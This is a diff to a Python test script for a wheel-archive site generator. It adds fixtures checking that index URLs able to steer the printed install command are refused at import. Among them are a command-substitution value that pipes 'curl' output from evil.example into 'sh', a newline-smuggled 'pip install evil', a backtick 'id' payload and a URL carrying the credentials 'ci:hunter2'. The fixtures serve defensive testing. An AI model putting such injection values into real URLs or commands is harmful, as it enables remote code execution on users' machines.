@@ -4,16 +4,20 @@ with markup in the variant, a key that is not the file's, a variant that is
 a number, a file name that is not a key (one with a terminal escape too),
 unparsable JSON, an inferred_from that is a path, a javascript: URL, a bad
 target name, a member path with an escape sequence, a date with markup, a
-URL with a fragment; one valid record whose member paths hold quotes,
-markup and spaces; and two valid releases, 1!2.0 and 1_2.0, that once
-shared one page path (and failed every build).
+URL with a fragment; index URLs that would steer the install command (shell
+metacharacters, another host, user info, a newline, 10 MB, an id that is
+not the index's), a wheel URL with user info; two versions wheelarch does
+not store, 1!2.0 (an epoch, whose '!' interactive bash and zsh expand) and
+1_2.0 (not PEP 440), that once shared one page path (and failed every
+build); one valid record whose member paths hold quotes, markup and
+spaces.
 
 Checks: import's exit status 3 and exactly one warning per invalid record,
 naming its file (control characters escaped) and the reason, and nothing of
 it in the database; a database edited by hand past the checks makes
 `build` and `query` skip that wheel with one warning each; the valid hostile-looking
 record rendered with its paths escaped; no markup from the records
-anywhere in the site; 1!2.0 and 1_2.0 on pages of their own, and every
+anywhere in the site, no page for 1!2.0 or 1_2.0, and every
 relative link of every page leading to a file of the site; no simple-index
 link with two '#'; every id of every HTML page matches [A-Za-z0-9_-]+,
 is unique in its page, and every aria-labelledby names one; the rest of the
@@ -124,6 +128,27 @@ r.update(key=key("e"), sha256=key("e"), index_sha256=key("e"),
          url=r["url"] + "#frag")
 bad(key("e"), r, '" is not an http(s) URL')  # the URL is quoted cut short
 
+# Index URLs that would steer the command every page prints: refused at
+# import, whatever else the record holds (tests/cli/test_shells.py runs the
+# commands that are printed).
+STEER = {
+    "ab" * 32: ("https://download.pytorch.org/whl/cu130/$(curl${IFS}-s${IFS}evil.example|sh)/",
+                    "is not an index URL (http(s)://HOST[:PORT]/PATH/"),
+    "ac" * 32: ("https://evil.example/whl/cu130/", "is neither download.pytorch.org's index cu130"),
+    "ad" * 32: ("https://download.pytorch.org/whl/cu126/", "is neither download.pytorch.org's index cu130"),
+    "ae" * 32: ("https://ci:hunter2@download.pytorch.org/whl/cu130/", 'index_url "https://***@download.pytorch.org/whl/cu130/" holds user info'),
+    "af" * 32: ("https://download.pytorch.org/whl/cu130/\npip install evil", "is not an index URL"),
+    "ba" * 32: ("https://download.pytorch.org/whl/" + "a" * (10 << 20) + "/", "index_url is"),
+    "bc" * 32: ("https://download.pytorch.org/whl/cu130/'`id`'/", "is not an index URL"),
+}
+for k, (u, why) in STEER.items():
+    r = load(SCANNED)
+    r.update(key=k, sha256=k, index_sha256=k, index_url=u)
+    bad(k, r, why)
+r = load(SCANNED)
+r.update(key="bd" * 32, url="https://ci:hunter2@download.pytorch.org/whl/cu130/" + r["filename"].replace("+", "%2B"))
+bad("bd" * 32, r, 'url "https://***@download.pytorch.org/whl/cu130/torch-2.9.0%2Bcu130-cp312-cp312-manyl..." holds user info')
+
 # The valid one: torch 2.7.0 cu130 with member paths full of quotes, markup
 # and spaces (member names are any bytes a zip holds).
 HOSTILE_OK = key("d")
@@ -143,24 +168,24 @@ for p in PATHS:
 put(HOSTILE_OK, r)
 
 
-# Two valid releases whose versions differ only in '!' and '_' (both PEP
-# 440-ish characters that wheelname_parse and recordcheck accept): they
-# once mapped to one page, release/torch/1_2.0/, and every build failed
-# with "output path ... written twice".
-def release(k, version):
+# Two versions that differ only in '!' and '_': they once mapped to one
+# page, release/torch/1_2.0/, and every build failed with "output path ...
+# written twice".  Neither is stored now: 1!2.0 has an epoch, 1_2.0 is not
+# a PEP 440 version.
+def release(k, version, why):
     rec = load(SCANNED)
     fn = "torch-%s+cu126-cp312-cp312-manylinux_2_28_x86_64.whl" % version
-    rec.update(key=k, sha256=k, index_sha256=k, filename=fn, variant="cu126",
+    rec.update(key=k, sha256=k, index_sha256=k, filename=fn, variant="cu126", index="cu126", indexes=["cu126"],
                url="https://download.pytorch.org/whl/cu126/" + fn.replace("+", "%2B"),
                index_url="https://download.pytorch.org/whl/cu126/",
                wheel=dict(rec["wheel"], version=version + "+cu126", public_version=version,
                           local="cu126", filename=fn))
-    put(k, rec)
+    bad(k, rec, why)
 
 
 BANG, UNDER = key("f"), "0" * 64
-release(BANG, "1!2.0")
-release(UNDER, "1_2.0")
+release(BANG, "1!2.0", "its version has an epoch (N!)")
+release(UNDER, "1_2.0", 'filename "torch-1_2.0+cu126-cp312-cp312-manylinux_2_28_x86_64.whl" is not a wheel file name')
 RELEASE_PAGES = {"release/torch/1_212.0/index.html": "1!2.0", "release/torch/1_5f2.0/index.html": "1_2.0"}
 
 # ---- import: the invalid ones refused, one line each ------------------------------
@@ -179,8 +204,8 @@ for name, reason in sorted(invalid.items()):
         c.ok(reason in mine[0][len(prefix):], "the warning for %s.json says %r: %s"
              % (shown.get(name, name), reason, mine[0]))
 c.ok(not any(HOSTILE_OK in line for line in lines), "the valid hostile-looking record is not refused")
-c.ok(not any(k in line for line in lines for k in (BANG, UNDER)), "the 1!2.0 and 1_2.0 records are not refused")
-c.ok("16 records added" in err, "13 fixture records and the 3 valid new ones stored: " + err.strip())
+c.ok("14 records added" in err, "13 fixture records and the valid new one stored: " + err.strip())
+c.ok("hunter2" not in err, "no message shows the user info")
 stored = watest.records(db)
 c.eq(sorted(k for k in invalid if k in stored), [], "no refused record is in the database")
 c.eq(watest.integrity(db), "ok", "the database passes integrity_check")
@@ -214,7 +239,7 @@ skipped = [line for line in err.splitlines() if line.endswith("; record skipped"
 c.eq(len(skipped), 1, "one warning for the edited row: %s" % skipped)
 c.ok(skipped and "wheelarch.db: wheel %s: the variant is not a variant id" % EDITED in skipped[0],
      "it names the database, the wheel and the reason: %s" % skipped)
-c.ok("pages from 16 records" in err, "the 16 stored records rendered: " + err.strip())
+c.ok("pages from 14 records" in err, "the 14 stored records rendered: " + err.strip())
 
 # ---- nothing from the records reaches a page as markup ------------------------
 files = []
@@ -249,13 +274,12 @@ c.ok("a&quot;&gt;&lt;script&gt;x&lt;/script&gt;/libx.so" in rp and "torch/lib/a 
      "the release page lists the member paths, escaped")
 
 
-# ---- 1!2.0 and 1_2.0: a page each, and every link inside the site works -------
+# ---- no page of 1!2.0 or 1_2.0, no steered URL anywhere, and every link
+# inside the site works -------------------------------------------------------
 for f, version in sorted(RELEASE_PAGES.items()):
-    page = raw.get(f, b"").decode()
-    c.ok("<title>torch %s" % version in page, "%s is the page of torch %s" % (f, version))
-for k, f in ((BANG, "release/torch/1_212.0/index.html"), (UNDER, "release/torch/1_5f2.0/index.html")):
-    wpage = raw.get("wheel/%s.html" % k, b"").decode()
-    c.ok('href="../%s"' % f[:-len("index.html")] in wpage, "the page of wheel %s... links to %s" % (k[:8], f))
+    c.ok(f not in raw, "no page for torch %s (refused at import)" % version)
+for needle in (b"evil.example", b"hunter2", b"$(curl", b"`id`"):
+    c.eq([f for f, data in raw.items() if needle in data], [], "files holding %r" % needle)
 
 
 def hrefs_of(text):
@@ -287,7 +311,7 @@ for f in files:
         if t in RELEASE_PAGES:
             to_releases.add(t)
 c.eq(broken[:10], [], "links to files the site does not have")
-c.eq(sorted(to_releases), sorted(RELEASE_PAGES), "pages link to both release pages")
+c.eq(sorted(to_releases), [], "no page links to a release page of a refused version")
 
 # ---- no link with two fragments (the '#frag' record is refused; the
 # simple index adds "#sha256=" to URLs that have none) ---------------------------
